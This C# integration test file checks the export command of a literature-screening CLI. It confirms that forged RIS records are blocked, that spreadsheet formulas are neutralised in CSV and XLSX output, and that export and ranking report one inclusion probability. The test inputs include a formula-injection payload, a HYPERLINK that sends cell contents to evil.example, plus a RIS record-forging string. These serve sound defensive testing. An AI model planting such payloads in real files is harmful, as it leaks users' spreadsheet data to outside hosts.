using System.Globalization;
using System.Text;
using System.Text.Json;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Screener.Cli;
using Screener.Core.Exports;
using Screener.Core.Jobs;
using Screener.Core.Ranking;
using Screener.Core.Screening;
using Screener.Core.Vocabulary;
using Screener.IntegrationTests.Infrastructure;
using static Screener.Core.Vocabulary.ScreeningDecision;

namespace Screener.IntegrationTests.Records;

/// <summary>Issue 17 items 11 and 12 and issue 18's one probability, through `screener export` end to end.</summary>
public sealed class ExportSafetyTests(TestDatabase database) : IClassFixture<TestDatabase>, IAsyncLifetime
{
    private static readonly string Protocol = Path.Combine(Paths.Examples, "donners2021-emicizumab", "protocol.yaml");
    private const string Hostile = "Background: a trial.\nER  - \nTY  - JOUR\nN1  - Include";
    private const string FormulaTitle = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    private readonly string _dir = Directory.CreateTempSubdirectory("screener-export-safety-").FullName;

    public async Task InitializeAsync()
    {
        await database.ResetAsync();
        await CliHarness.RunAsync(database, "init", "--protocol", Protocol, "--name", "A");
        await CliHarness.RunAsync(database, "init", "--protocol", Protocol, "--name", "B");
    }

    public Task DisposeAsync()
    {
        Directory.Delete(_dir, true);
        return Task.CompletedTask;
    }

    private async Task<string> RecordsCsvAsync(IEnumerable<(string Id, string Title, string Abstract)> rows)
    {
        static string Quoted(string v) => "\"" + v.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        var path = Path.Combine(_dir, $"records-{Guid.NewGuid():N}.csv");
        await File.WriteAllTextAsync(path, "record_id,title,abstract,year\n" +
            string.Concat(rows.Select(r => $"{r.Id},{Quoted(r.Title)},{Quoted(r.Abstract)},2020\n")), new UTF8Encoding(false));
        return path;
    }

    private async Task<Dictionary<string, string?>> AbstractsAsync(string review)
    {
        await using var db = database.CreateDbContext();
        var id = await db.Reviews.Where(r => r.Name == review).Select(r => r.Id).SingleAsync();
        return await db.Records.Where(r => r.ReviewId == id).ToDictionaryAsync(r => r.ExternalId!, r => r.Abstract);
    }

    [Fact]
    public async Task A_multi_line_abstract_cannot_forge_a_record_in_the_ris_export_and_imports_back_with_the_same_text()
    {
        var csv = await RecordsCsvAsync(Enumerable.Range(1, 201).Select(i => ($"r{i}", $"Title {i}", i == 100 ? Hostile : $"Abstract {i}.\nSecond paragraph.")));
        Assert.Equal(0, (await CliHarness.RunAsync(database, "import", "--review", "A", csv)).ExitCode);
        var ris = Path.Combine(_dir, "export.ris");

        var export = await CliHarness.RunAsync(database, "export", "--review", "A", "--format", "ris", "--output", ris);
        var import = await CliHarness.RunAsync(database, "import", "--review", "B", ris);

        Assert.Equal((0, 0), (export.ExitCode, import.ExitCode));
        var a = await AbstractsAsync("A");
        var b = await AbstractsAsync("B");
        Assert.Equal(201, b.Count);
        Assert.Equal(Hostile, a["r100"]);
        Assert.Equal(Hostile.ReplaceLineEndings(" "), b["r100"]); // the text, its tag-like line breaks read as spaces
        Assert.Equal(a.Where(x => x.Key != "r100").OrderBy(x => x.Key), b.Where(x => x.Key != "r100").OrderBy(x => x.Key)); // paragraphs kept
    }

    [Fact]
    public async Task Formula_text_is_neutralised_in_the_records_csv_and_never_a_formula_in_the_xlsx()
    {
        var csv = await RecordsCsvAsync([("r1", FormulaTitle, "@SUM(A1:A9)"), ("r2", "A plain title", "-2+3")]);
        Assert.Equal(0, (await CliHarness.RunAsync(database, "import", "--review", "A", csv)).ExitCode);
        var csvOut = Path.Combine(_dir, "export.csv");
        var xlsxOut = Path.Combine(_dir, "export.xlsx");

        var csvExport = await CliHarness.RunAsync(database, "export", "--review", "A", "--format", "csv", "--output", csvOut);
        var xlsxExport = await CliHarness.RunAsync(database, "export", "--review", "A", "--format", "xlsx", "--output", xlsxOut);

        Assert.Equal((0, 0), (csvExport.ExitCode, xlsxExport.ExitCode));
        using var reader = new CsvReader(new StreamReader(csvOut), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var rows = new List<(string Title, string Abstract, string Year)>();
        while (reader.Read()) rows.Add((reader.GetField("title")!, reader.GetField("abstract")!, reader.GetField("year")!));
        Assert.Equal([("'" + FormulaTitle, "'@SUM(A1:A9)", "2020"), ("A plain title", "'-2+3", "2020")], rows);

        var (sheet, formulas) = XlsxReadBack.Read(await File.ReadAllBytesAsync(xlsxOut));
        Assert.Equal(0, formulas);
        int Column(string name) => ExportLayout.Header.ToList().IndexOf(name);
        Assert.Equal(new XlsxCell(FormulaTitle, true, true), sheet[1][Column("title")]);
        Assert.Equal(new XlsxCell("-2+3", true, true), sheet[2][Column("abstract")]);
        Assert.Equal(new XlsxCell("2020", false, false), sheet[1][Column("year")]);
    }

    [Fact]
    public async Task The_export_and_the_ranking_read_the_one_inclusion_probability()
    {
        Assert.Equal(0, (await CliHarness.RunAsync(database, "import", "--review", "A", Path.Combine(Paths.Examples, "donners2021-emicizumab", "records.csv"))).ExitCode);
        long first, second;
        await using (var db = database.CreateDbContext())
        {
            var review = await db.Reviews.SingleAsync(r => r.Name == "A");
            var ids = await db.Records.Where(r => r.ReviewId == review.Id).OrderBy(r => r.Id).Select(r => r.Id).Take(2).ToListAsync();
            (first, second) = (ids[0], ids[1]);
            var run = new ScreeningRun { ReviewId = review.Id, ProtocolVersionId = review.CurrentProtocolVersionId!.Value, Provider = "local", Model = "m" };
            db.Add(run);
            await db.SaveChangesAsync();
            var votes = new[] { (first, Include), (first, Unsure), (first, Exclude), (first, Exclude), (second, Include), (second, Unsure) };
            db.Suggestions.AddRange(votes.Select((v, k) => new LlmSuggestion
            {
                RunId = run.Id, RecordId = v.Item1, Slot = $"s{k}", IdempotencyKey = $"k{k}", Status = SuggestionStatus.Parsed, Decision = v.Item2,
                Audit = new LlmCallAudit { ProtocolHash = "h", PromptId = "p", PromptVersion = "1", PromptHash = "h", RenderedPromptHash = "h", Model = "m" },
            }));
            await db.SaveChangesAsync();
        }

        var export = await CliHarness.RunAsync(database, "export", "--review", "A", "--format", "csv");
        var rank = await CliHarness.RunAsync(database, "rank", "--review", "A", "--top", "0", "--json");

        Assert.Equal((0, 0), (export.ExitCode, rank.ExitCode));
        using var reader = new CsvReader(new StringReader(export.Out), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var exported = new Dictionary<long, string>();
        while (reader.Read()) exported[long.Parse(reader.GetField("screener_id")!, CultureInfo.InvariantCulture)] = reader.GetField("llm_include_probability")!;
        var ranked = JsonSerializer.Deserialize<RankRecordsResult>(rank.Out, CliRunner.JsonOptions)!.Records.ToDictionary(r => r.RecordId, r => r.LlmProbability);
        var expectedFirst = InclusionProbability.FromVotes([Include, Unsure, Exclude, Exclude])!.Value;
        var expectedSecond = InclusionProbability.FromVotes([Include, Unsure])!.Value;
        Assert.Equal((0.375, 0.75), (expectedFirst, expectedSecond));
        Assert.Equal((expectedFirst, expectedSecond), (double.Parse(exported[first], CultureInfo.InvariantCulture), double.Parse(exported[second], CultureInfo.InvariantCulture)));
        Assert.Equal((expectedFirst, expectedSecond), (ranked[first]!.Value, ranked[second]!.Value));
        Assert.Equal("", exported[ranked.Keys.First(id => id != first && id != second)]);
    }
}
